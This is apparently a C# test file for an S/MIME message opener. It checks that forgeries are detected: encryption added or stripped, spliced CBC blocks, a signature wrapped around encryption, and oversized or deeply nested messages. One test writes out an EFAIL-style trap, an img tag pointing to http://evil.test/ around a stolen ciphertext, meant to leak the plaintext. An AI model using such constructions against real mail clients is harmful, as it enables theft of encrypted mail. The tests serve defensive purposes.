using System.Security.Cryptography.X509Certificates;
using System.Text;
using MeSign.Statements.Sealing;
using static MeSign.Statements.Tests.Sealing.MailForgery;

namespace MeSign.Statements.Tests.Sealing;

/// <summary>Forgeries with encryption and with layers.</summary>
public class EncryptionAttackTests : MessageAttackBench
{
    [Fact]
    public async Task Names_an_encryption_that_the_sender_did_not_put_on()
    {
        var sent = Encoding.ASCII.GetString(await SealAsync());
        var body = sent[sent.IndexOf("Content-Type: multipart/signed", StringComparison.Ordinal)..];

        var wrapped = Encrypt(Encoding.ASCII.GetBytes(sent), Encoding.ASCII.GetBytes(body), Client);

        Open(wrapped, Client).ShouldBe(["Its sender signed it to be sent without encryption (hp=\"clear\"): somebody else encrypted it."]);
    }

    [Fact]
    public async Task Names_an_encryption_that_was_taken_off()
    {
        var sent = await SealAsync(Client);

        var clear = Header(sent).Concat(Decrypt(sent, Client)).ToArray();

        Open(clear).ShouldBe(["Its sender signed it to be sent encrypted (hp=\"cipher\"): somebody decrypted it and sent it on."]);
    }

    [Fact]
    public async Task A_spliced_first_block_makes_no_message()
    {
        var sent = await SealAsync(Client);

        Open(SpliceFirstBlock(sent), Client).ShouldContain(Unsigned);
    }

    [Fact]
    public async Task Spliced_blocks_are_named()
    {
        // The gadget block pair is the first ciphertext block again, in the middle of the content.
        var sent = await SealAsync(Client);
        var cms = RawEntity.Read(sent).DecodedBody().ToArray();
        var content = cms.Length / 2 / 16 * 16 + cms.Length % 16;
        cms.AsSpan(cms.Length - 32, 32).CopyTo(cms.AsSpan(content, 32));

        var opened = Opener().Open(Rewrap(sent, cms), [Client]);

        opened.IsValid.ShouldBeFalse();
        opened.Problems.ShouldNotBeEmpty();
    }

    [Fact]
    public async Task A_ciphertext_inside_somebody_elses_text_is_not_opened()
    {
        // EFAIL's other half: an image tag around a stolen message would send its plaintext away.
        var stolen = Encoding.ASCII.GetString(await SealAsync(Client));
        var cipher = stolen[stolen.IndexOf("Content-Type: application/pkcs7-mime", StringComparison.Ordinal)..];
        var trap = "From: a@evil.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
            + $"<img src=\"http://evil.test/\r\n--b\r\n{cipher}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";

        var opened = Opener().Open(Encoding.ASCII.GetBytes(trap), [Client]);

        opened.Problems.ShouldBe(["The message is neither signed nor encrypted."]);
        (opened.Text + opened.Html).ShouldNotContain("4321");
    }

    [Fact]
    public void Names_a_signature_around_an_encryption()
    {
        using var bench = new Workbench();
        bench.Write("content", "Content-Type: text/plain\r\n\r\nHello\r\n"u8);
        bench.Run("openssl", "cms", "-encrypt", "-binary", "-in", "content", "-out", "encrypted", "-aes256", "-recip", bench.WriteCertificate(Client));
        bench.Run("openssl", "cms", "-sign", "-nodetach", "-in", "encrypted", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));

        Open(File.ReadAllBytes(bench.Path("message.eml")), Client)
            .ShouldContain("The signature is around the encryption and not on the content: the signer need not have known it.");
    }

    [Fact]
    public void A_compressed_layer_is_not_blown_up()
    {
        // id-ct-compressedData (RFC 3274) is not part of what is opened, whatever is in it.
        var info = new System.Formats.Asn1.AsnWriter(System.Formats.Asn1.AsnEncodingRules.DER);
        using (info.PushSequence())
        {
            info.WriteObjectIdentifier("1.2.840.113549.1.9.16.1.9");
            using (info.PushSequence(new System.Formats.Asn1.Asn1Tag(System.Formats.Asn1.TagClass.ContextSpecific, 0)))
                info.WriteNull();
        }
        var eml = $"From: a@b.test\r\nContent-Type: application/pkcs7-mime; smime-type=compressed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(info.Encode())}\r\n";

        Open(Encoding.ASCII.GetBytes(eml)).ShouldContain("A layer is CMS of type 1.2.840.113549.1.9.16.1.9, which is neither signed nor encrypted data.");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_hundred_thousand_protected_fields_are_compared_one_by_one(bool sameName)
    {
        // Each with each, or joined one after the other, would be ten thousand million steps.
        using var bench = new Workbench();
        var fields = string.Concat(Enumerable.Range(0, 100_000).Select(i => sameName ? "X:y\r\n" : $"{i}:y\r\n"));
        bench.Write("content", Encoding.ASCII.GetBytes($"From: statements@bank.test\r\n{fields}Content-Type: text/plain; hp=clear\r\n\r\nHello\r\n"));
        bench.Run("openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "content", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));

        Opener().Open(File.ReadAllBytes(bench.Path("message.eml")), Array.Empty<X509Certificate2>())
            .HeaderProtection.Differences.Count.ShouldBe(sameName ? 1 : 100_000);
    }

    [Fact]
    public void A_message_nested_thousands_of_times_is_a_problem_and_not_an_end()
    {
        using var bench = new Workbench();
        var nested = string.Concat(Enumerable.Range(0, 20_000).Select(i => $"Content-Type: multipart/mixed; boundary={i}\r\n\r\n--{i}\r\n"));
        bench.Write("content", Encoding.ASCII.GetBytes($"{nested}Content-Type: text/plain\r\n\r\nHello\r\n"));
        bench.Run("openssl", "cms", "-sign", "-binary", "-nodetach", "-in", "content", "-out", "message.eml", "-from", "statements@bank.test",
            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));

        Opener().Open(File.ReadAllBytes(bench.Path("message.eml")), Array.Empty<X509Certificate2>()).Signature!.Verdict.Signer!.DigestMatches.ShouldBeTrue();
    }
}
